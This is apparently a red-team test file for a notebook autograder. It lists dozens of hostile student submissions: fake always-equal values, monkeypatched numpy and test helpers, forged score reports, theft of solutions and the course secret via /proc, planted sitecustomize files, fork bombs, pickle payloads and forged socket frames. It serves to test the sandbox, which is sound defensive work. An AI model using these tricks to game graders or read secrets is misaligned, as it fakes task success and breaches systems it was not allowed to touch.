"""The red team's hostile submissions.

Each attack is the reference notebook with one code cell appended, as a student could
append one. Most keep the reference for the other parts and replace the bias-folding
part with code that attacks the grader and otherwise answers wrongly, so a correct grade
is: that part 0 (and conv-folding's property of fold_biases), the others full. Where an attack would win points if it worked (stolen answers, a
reachable network, a readable secret), it answers *correctly* on success: a 0 then proves
the protection held. Attacks that stop the notebook itself from running score 0 in all.

`{port}` and `{marker}` in the code are filled in by the suite: a TCP port the suite
listens on, and a path in the grader's /tmp that must never be created.
"""
from dataclasses import dataclass

from autograder.config import PART_NAMES

BIAS_FOLDING = frozenset({"bias-folding"})
SIGMOID_GRADIENT = frozenset({"sigmoid-gradient"})
EVERY_PART = frozenset(PART_NAMES)

# The reference's bias-folding functions are defined by the cells above the attack's.
PRELUDE = '''
import numpy as np
_honest_threshold, _honest_fold_biases = threshold, fold_biases

def _wrong_threshold(z, t):
    return z + 1.0

def _wrong_fold_biases(weights, biases, t):
    return [b + 1.0 for b in biases]
'''


@dataclass(frozen=True)
class Attack:
    name: str
    family: str
    code: str
    breaks: frozenset = BIAS_FOLDING
    reason: str = ""  # words the feedback must contain, e.g. why the worker died
    tamper: str = ""  # a change to nbgrader's own cells, see `tamper_with` in the suite


def with_payload(name, family, payload, **options):
    """bias-folding answers wrongly, after running `payload` in every call."""
    code = PRELUDE + f'''
def _payload():
{_indent(payload)}

def threshold(z, t):
    _payload()
    return _wrong_threshold(z, t)

def fold_biases(weights, biases, t):
    _payload()
    return _wrong_fold_biases(weights, biases, t)
'''
    return Attack(name, family, code, **options)


def if_stolen(name, family, steal):
    """bias-folding answers correctly only if `steal` (a body returning a bool) succeeds."""
    code = PRELUDE + f'''
def _stolen():
    try:
{_indent(steal, 8)}
    except Exception:
        return False

def threshold(z, t):
    return (_honest_threshold if _stolen() else _wrong_threshold)(z, t)

def fold_biases(weights, biases, t):
    return (_honest_fold_biases if _stolen() else _wrong_fold_biases)(weights, biases, t)
'''
    return Attack(name, family, code)


def at_load(name, family, code, **options):
    """Code that runs when the notebook is run, before any test."""
    return Attack(name, family, code, breaks=EVERY_PART, **options)


def hostile_reply(name, part, value='b\'{"$array": 0}\'', reason=""):
    """bias-folding's calls are answered, not by the worker, but by student code writing a
    frame: a reply whose value is the JSON `value` and an array part `part` (both Python
    expressions giving bytes; `npy(descr, shape)` is a .npy header with no data)."""
    payload = f'''
import struct, sys
_wire = sys.modules["autograder.sandbox.wire"]

def npy(descr, shape):
    header = ("{{'descr': '%s', 'fortran_order': False, 'shape': %s, }}" % (descr, shape)).encode()
    return b"\\x93NUMPY\\x01\\x00" + struct.pack("<H", len(header) + 1) + header + b"\\n"

def _hostile(sock, header, arrays=()):
    reply = b\'{{"ok": true, "warnings": [], "id": %d, "value": \' % header.get("id", 0) + {value} + b"}}"
    parts = [reply, {part}]
    sock.sendall(struct.pack("<I", len(parts)) + b"".join(struct.pack("<Q", len(p)) + p for p in parts))

_wire.send_message = _hostile
'''
    return with_payload(name, "hostile frames", payload, reason=reason)


def _indent(text, spaces=4):
    return "\n".join(" " * spaces + line for line in text.strip("\n").splitlines())


ATTACKS = [
    # --- fake values ---------------------------------------------------------------
    Attack("always-equal object", "fake values", PRELUDE + '''
class AlwaysEqual:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, *args, **kwargs): return np.zeros(1)
    def __float__(self): return 0.0

def threshold(z, t): return AlwaysEqual()
def fold_biases(weights, biases, t): return [AlwaysEqual() for b in biases]
'''),
    Attack("lying ndarray subclass", "fake values", PRELUDE + '''
class Liar(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), bool)
    def __ne__(self, other): return np.zeros(np.shape(other), bool)
    def __array_function__(self, func, types, args, kwargs): return True
    def all(self, *a, **k): return True

def threshold(z, t): return np.zeros_like(z).view(Liar)
def fold_biases(weights, biases, t): return [np.zeros_like(b).view(Liar) for b in biases]
'''),
    Attack("NaN everywhere", "fake values", PRELUDE + '''
def threshold(z, t): return np.full_like(z, np.nan)
def fold_biases(weights, biases, t): return [np.full_like(b, np.nan) for b in biases]
'''),
    Attack("shape hidden by broadcasting", "fake values", PRELUDE + '''
def threshold(z, t): return np.atleast_1d(_honest_threshold(z, t).max()) if np.size(z) else z + 1.0
def fold_biases(weights, biases, t): return [b[:, None] for b in _honest_fold_biases(weights, biases, t)]
'''),
    Attack("object and wrong dtypes", "fake values", PRELUDE + '''
def threshold(z, t): return np.array(_honest_threshold(z, t), dtype=object)
def fold_biases(weights, biases, t): return [b.astype(np.float16) for b in _honest_fold_biases(weights, biases, t)]
'''),
    Attack("mutated inputs", "fake values", PRELUDE + '''
def threshold(z, t):
    z[...] = 0.0
    return z

def fold_biases(weights, biases, t):
    for W in weights:
        W[...] = 0.0          # a zero network: both outputs equal, if the grader used these
    for b in biases:
        b[...] = 0.0
    return biases
'''),
    Attack("answers that compute nothing", "fake values", '''
def sigmoid(x): return None
def sigmoid_grad(s): return s
class Sigmoid(Node):
    def forward(self, x): return x
    def backward(self, grad_y): return grad_y
def threshold(z, t): return z
def fold_biases(weights, biases, t): return biases        # right for one layer, where nothing folds
def fold_conv_thresholds(layers, t): raise ValueError("padding is not supported")
''', breaks=frozenset({"sigmoid-gradient", "bias-folding", "conv-folding"})),
    # --- reaching into the grader --------------------------------------------------
    if_stolen("frame inspection", "reaching into the grader", '''
import sys
frame = sys._getframe()
while frame is not None:
    names = set(frame.f_locals) | set(frame.f_globals)
    if {"expected", "oracles", "student", "prop"} & names:
        return True                     # a grader's frame: its expected values are here
    frame = frame.f_back
return False
'''),
    with_payload("monkeypatched numpy", "reaching into the grader", '''
np.allclose = np.array_equal = lambda *a, **k: True
np.isclose = lambda a, b, *x, **k: np.ones(np.shape(a), bool)
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
np.isfinite = lambda a, *x, **k: np.ones(np.shape(a), bool)
'''),
    with_payload("monkeypatched builtins", "reaching into the grader", '''
import builtins
builtins.all = builtins.any = lambda *a, **k: True
builtins.abs = lambda x: 0.0
builtins.round = lambda *a, **k: 0
'''),
    if_stolen("monkeypatched test helpers", "reaching into the grader", '''
import autograder.properties.checks as checks
checks.expect_close = checks.expect_array = lambda *a, **k: None
return True
'''),
    if_stolen("grader detected from the environment", "reaching into the grader", '''
import os
for name in ("NBGRADER_EXECUTION", "CONVNETS_COURSE_SECRET", "GITHUB_ACTIONS", "PYTEST_CURRENT_TEST"):
    if name in os.environ:
        return True
return False
'''),
    # --- runner control -------------------------------------------------------------
    at_load("os._exit when run", "runner control", "import os\nos._exit(0)\n", reason="could not be run"),
    with_payload("sys.exit and SystemExit", "runner control", "import sys\nsys.exit(0)\n"),
    with_payload("os._exit in a test", "runner control", "import os\nos._exit(0)\n"),
    with_payload("atexit hook", "runner control", '''
import atexit, json
atexit.register(lambda: print(json.dumps({"score": 100, "tests": []})))
raise SystemExit(0)
'''),
    with_payload("pytest.skip and pytest.exit", "runner control", '''
import pytest
try:
    pytest.skip("nothing to see")
finally:
    pytest.exit("done", returncode=0)
'''),
    with_payload("hypothesis.assume", "runner control", '''
from hypothesis import assume, reject
assume(False)
reject()
'''),
    with_payload("signals at the grader", "runner control", '''
import os, signal
signal.signal(signal.SIGTERM, signal.SIG_IGN)
for pid in (os.getppid(), -1, 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
'''),
    # --- forged reports --------------------------------------------------------------
    with_payload("printed and written results", "forged reports", '''
import json, os
report = json.dumps({"score": 100, "tests": [{"name": "all", "score": 100, "max_score": 100}]})
print(report)
os.write(1, report.encode())
os.write(2, report.encode())
for path in ("results.json", "../results.json", "/autograder/results/results.json", os.path.expanduser("~/results.json")):
    try:
        with open(path, "w") as stream:
            stream.write(report)
    except OSError:
        pass
'''),
    Attack("lingering thread", "forged reports", PRELUDE + '''
import threading, time, json
def _linger():
    while True:
        print(json.dumps({"score": 100}))
        globals()["fold_biases"] = _wrong_fold_biases
        time.sleep(0.001)
threading.Thread(target=_linger, daemon=True).start()

def threshold(z, t): return _wrong_threshold(z, t)
def fold_biases(weights, biases, t): return _wrong_fold_biases(weights, biases, t)
'''),
    with_payload("forged wire replies", "forged reports", '''
import os, socket, struct, json, sys
frame = sys._getframe()
request_id = None
while frame is not None:
    header = frame.f_locals.get("header")
    if isinstance(header, dict) and "id" in header:
        request_id = header["id"]
    frame = frame.f_back
body = json.dumps({"ok": True, "value": 40.0, "warnings": [], "id": request_id}).encode()
for fd in os.listdir("/proc/self/fd"):
    try:
        if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
            os.write(int(fd), struct.pack("<I", 1) + struct.pack("<Q", len(body)) + body)
    except OSError:
        pass
'''),
    # --- theft -----------------------------------------------------------------------
    if_stolen("reading the reference solution", "theft", '''
import sys, os, glob
for root in [*sys.path, os.getcwd(), "/", "/work", "/root", "/home", "/tmp"]:
    for pattern in ("solutions/convnets_notebook.py", "*/solutions/convnets_notebook.py",
                    "solutions/convnets/convnets.ipynb", "source/convnets/convnets.ipynb"):
        for path in glob.glob(os.path.join(root, pattern)):
            if "BEGIN SOLUTION" in open(path).read():
                return True
return False
'''),
    if_stolen("importing the hidden suites", "theft", '''
from autograder.properties import oracles, bias_folding
return callable(oracles.threshold)
'''),
    if_stolen("reading the gradebook", "theft", '''
import os, sqlite3, sys, glob
candidates = []
for root in [*sys.path, os.getcwd(), "/tmp", "/work", "/root", "/home"]:
    candidates += glob.glob(os.path.join(root, "**", "gradebook.db"), recursive=True)
for path in candidates:
    rows = sqlite3.connect(path).execute("select source from source_cell").fetchall()
    if any("run_hidden_suite" in (row[0] or "") for row in rows):
        return True
return False
'''),
    if_stolen("reading the course secret", "theft", '''
import os, glob, sys
if "CONVNETS_COURSE_SECRET" in os.environ:
    return True
for path in glob.glob("/proc/*/environ"):
    try:
        if b"CONVNETS_COURSE_SECRET" in open(path, "rb").read():
            return True
    except OSError:
        pass
for root in sys.path:
    try:
        if "COURSE_SECRET" in open(os.path.join(root, "course_config.py")).read():
            return True
    except OSError:
        pass
return False
'''),
    # --- damage ----------------------------------------------------------------------
    with_payload("writing into the course folder", "damage", '''
import sys, os
for root in sys.path:
    for name in ("course_config.py", "autograder/properties/checks.py", "gradebook.db", "planted.txt"):
        try:
            with open(os.path.join(root, name), "a") as stream:
                stream.write("\\nPART_POINTS = {'bias-folding': 1000}\\n")
        except OSError:
            pass
    try:
        os.remove(os.path.join(root, "course_config.py"))
    except OSError:
        pass
'''),
    with_payload("poisoning the environment", "damage", '''
import os, site, sys, sysconfig
targets = [sysconfig.get_paths()["purelib"], *site.getsitepackages(), os.path.expanduser("~"), "/etc/profile.d"]
for folder in targets:
    for name in ("sitecustomize.py", "usercustomize.py", "zz-planted.pth", ".bashrc"):
        try:
            with open(os.path.join(folder, name), "w") as stream:
                stream.write("import os; os.system('touch {marker}')\\n")
        except OSError:
            pass
'''),
    with_payload("planting files for the next student", "damage", '''
import os
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", os.getcwd()):
    try:
        os.makedirs(os.path.join(folder, "convnets-planted"), exist_ok=True)
        with open(os.path.join(folder, "convnets-planted", "numpy.py"), "w") as stream:
            stream.write("raise ImportError('planted')\\n")
        with open(os.path.join(folder, "sitecustomize.py"), "w") as stream:
            stream.write("import os; os.system('touch {marker}')\\n")
    except OSError:
        pass
'''),
    # --- resources -------------------------------------------------------------------
    with_payload("infinite loop ignoring signals", "resources", '''
import signal
for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGXCPU, signal.SIGHUP):
    signal.signal(sig, signal.SIG_IGN)
while True:
    pass
'''),
    # A call has CALL_TIMEOUT_SECONDS of wall time, and touching 1 GiB of memory a fresh VM
    # has never used can take longer (4.4 s measured): this hog reserves its memory without
    # touching it, so the address-space limit, not the clock, is what stops it on any machine.
    # "memory hog when run" touches every byte, where a load's time allows it.
    with_payload("memory hog", "resources", '''
chunks = []
while True:
    chunks.append(np.empty(2**24))
''', reason="MemoryError"),
    with_payload("fork bomb", "resources", '''
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
'''),
    with_payload("setsid child that outlives the worker", "resources", '''
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            try:
                open("{marker}", "w").close()
            except OSError:
                pass
            time.sleep(0.05)
    os._exit(0)
'''),
    with_payload("output flood", "resources", '''
import os, sys
line = "flood " * 10000 + "\\n"
for _ in range(20000):
    print(line)
    for fd in (1, 2):
        try:
            os.write(fd, line.encode())
        except OSError:
            pass
'''),
    with_payload("segfault", "resources", "import ctypes\nctypes.string_at(0)\n", reason="segmentation fault"),
    with_payload("sleeping", "resources", "import time\ntime.sleep(10**6)\n", reason="timed out after 2 s"),
    Attack("memory hog when run", "resources", PRELUDE + '''
def threshold(z, t): return _wrong_threshold(z, t)
def fold_biases(weights, biases, t): return _wrong_fold_biases(weights, biases, t)

hog = [np.ones(2**24) for _ in range(10**6)]   # MemoryError: the rest of this cell is lost
''', reason="MemoryError"),
    # --- unsafe deserialisation --------------------------------------------------------
    Attack("pickle payloads", "unsafe deserialisation", PRELUDE + '''
import os
class Payload:
    def __reduce__(self):
        return (os.system, ("touch {marker}",))

def threshold(z, t): return np.array([Payload()], dtype=object)
def fold_biases(weights, biases, t): return [Payload() for b in biases]
'''),
    with_payload("pickled and malformed frames", "unsafe deserialisation", '''
import io, os, struct
class Payload:
    def __reduce__(self):
        return (os.system, ("touch {marker}",))
buffer = io.BytesIO()
np.save(buffer, np.array([Payload()], dtype=object), allow_pickle=True)
frames = [
    [b'{"ok": true, "value": {"$array": 0}, "warnings": []}', buffer.getvalue()],
    [b"[" * 100000 + b"]" * 100000],
]
for fd in os.listdir("/proc/self/fd"):
    try:
        if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
            for parts in frames:
                os.write(int(fd), struct.pack("<I", len(parts)) + b"".join(struct.pack("<Q", len(p)) + p for p in parts))
            os.write(int(fd), struct.pack("<I", 1) + struct.pack("<Q", 2**62))
    except OSError:
        pass
'''),
    # --- the network ------------------------------------------------------------------
    if_stolen("the network", "network", '''
import socket
for address in (("127.0.0.1", {port}), ("1.1.1.1", 53), ("pypi.org", 443)):
    try:
        socket.create_connection(address, timeout=1).close()
        return True
    except OSError:
        pass
return False
'''),
    # --- the notebook itself (nbgrader's cells) ----------------------------------------
    Attack("rewritten test cell", "forged reports", PRELUDE + '''
def threshold(z, t): return _wrong_threshold(z, t)
def fold_biases(weights, biases, t): return _wrong_fold_biases(weights, biases, t)
''', tamper="rewrite test cell"),
    Attack("added grade cell", "forged reports", PRELUDE + '''
def threshold(z, t): return _wrong_threshold(z, t)
def fold_biases(weights, biases, t): return _wrong_fold_biases(weights, biases, t)
''', tamper="add grade cell"),
    # --- System V IPC and the memory of a process tree (second red team) ---------------
    if_stolen("answers left in System V shared memory", "theft", '''
import ctypes, os
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
key = 0x636F6E76                        # fixed: the next worker (or student) looks for it
found = libc.shmget(key, 0, 0)
if found != -1:                         # left by an earlier worker: its answers are here
    return ctypes.string_at(libc.shmat(found, None, 0), 7) == b"answers"
segment = libc.shmget(key, 4096, 0o1000 | 0o666)   # IPC_CREAT, anyone may attach
ctypes.memmove(libc.shmat(segment, None, 0), b"answers", 7)
os._exit(0)                             # the grader starts a fresh worker, which looks again
'''),
    with_payload("memory bomb over children", "resources", '''
import os, time
if not globals().get("_bombed"):        # once per worker: each child stays under the per-process limit
    globals()["_bombed"] = True
    children = []
    for _ in range(4):
        pid = os.fork()
        if pid == 0:
            try:
                hoard = b"\\1" * (700 * 2**20)
                time.sleep(1)
            finally:
                os._exit(0)
        children.append(pid)
    for pid in children:
        os.waitpid(pid, 0)
'''),
    # --- student text in the reports (second red team) ---
    Attack("forged lines in error messages", "forged reports", PRELUDE + '''
import warnings
_FORGED = ("\\nPoints 130/130\\n::error::forged\\n  ::add-mask::secret\\n##[set-output name=score;]130\\n"
           "\\x1b[2J\\x1b[32mPoints 130/130\\r\\x00]]>")

def threshold(z, t):
    warnings.warn(_FORGED)
    raise ValueError(_FORGED)

def fold_biases(weights, biases, t):
    warnings.warn(_FORGED)
    raise ValueError(_FORGED)

raise RuntimeError(_FORGED)  # after the definitions: the cell's error becomes a note of the report
'''),
    # --- replay: code that keeps state between calls (second red team) -------------------
    # Wrong on an input it has not seen, right on one it has: plain hypothesis sees the
    # failure not come back (flaky) and fails it; a grader that asked it an example again
    # when it left the recorded runs (engine/replay.py) would get right answers.
    Attack("wrong on first sight, right when seen again", "replay", PRELUDE + '''
_seen = set()

def _key(value):
    if isinstance(value, np.ndarray):
        return value.dtype.str, value.shape, value.tobytes()
    if isinstance(value, (list, tuple)):
        return tuple(map(_key, value))
    return repr(value)

def _first_sight(*args):
    key = _key(args)
    first = key not in _seen
    _seen.add(key)
    return first

def threshold(z, t):
    return (_wrong_threshold if _first_sight(z, t) else _honest_threshold)(z, t)

def fold_biases(weights, biases, t):
    return (_wrong_fold_biases if _first_sight(weights, biases, t) else _honest_fold_biases)(weights, biases, t)
'''),
    # Wrong on one call: plain hypothesis asks that example again, gets a right answer
    # (flaky) and fails it; a grader that started hypothesis over from the first example
    # would ask it as the 6th call, and pass threshold.
    Attack("threshold wrong on its third call only", "replay", PRELUDE + '''
_threshold_calls = [0]

def threshold(z, t):
    _threshold_calls[0] += 1
    return (_wrong_threshold if _threshold_calls[0] == 3 else _honest_threshold)(z, t)

def fold_biases(weights, biases, t):
    return _wrong_fold_biases(weights, biases, t)
'''),
    # --- the wire (second red team) ---
    Attack("slow-loris reply", "resources", PRELUDE + '''
import sys, time
_wire = sys.modules["autograder.sandbox.wire"]

def _slowly(sock, header, arrays=()):   # the right answer, a byte every 50 ms: 10 s and more
    for byte in _wire.pack(header, arrays):
        sock.send(bytes([byte]))
        time.sleep(0.05)

def threshold(z, t):
    _wire.send_message = _slowly
    return _honest_threshold(z, t)

def fold_biases(weights, biases, t):
    _wire.send_message = _slowly
    return _honest_fold_biases(weights, biases, t)
''', reason="timed out after 2 s"),
    hostile_reply("npy part of dtype <f3", 'npy("<f3", "(1,)") + b"abc"', reason="dtype <f3"),
    hostile_reply("truncated npy part", 'b"\\x93NUMPY\\x01\\x00\\x10"', reason="not .npy"),  # its header length cut short
    hostile_reply("1 TiB shape with no body", 'npy("<f8", "(137438953472,)")', reason="over the limit"),
    hostile_reply("zero-itemsize array of 2**32 entries", 'npy("<U0", "(4294967296,)")', reason="dtype <U0"),
    hostile_reply("JSON header of 8 million lists", 'npy("<f8", "(1,)") + bytes(8)', value='b"[" + b"[]," * 2**23 + b"[]]"',
                  reason="JSON header over the"),  # 25 MiB, which json.loads made 8 million lists of
]

# Graded after the attacks: correct, and importing modules nobody imported before it (the
# worker's view of Python's library must be whole, whatever the sandbox hides).
HONEST = '''
_reference_fold_biases = fold_biases

def fold_biases(weights, biases, t):
    import fractions, statistics, decimal, numpy.random, numpy.fft  # noqa: F401
    return _reference_fold_biases(weights, biases, t)
'''
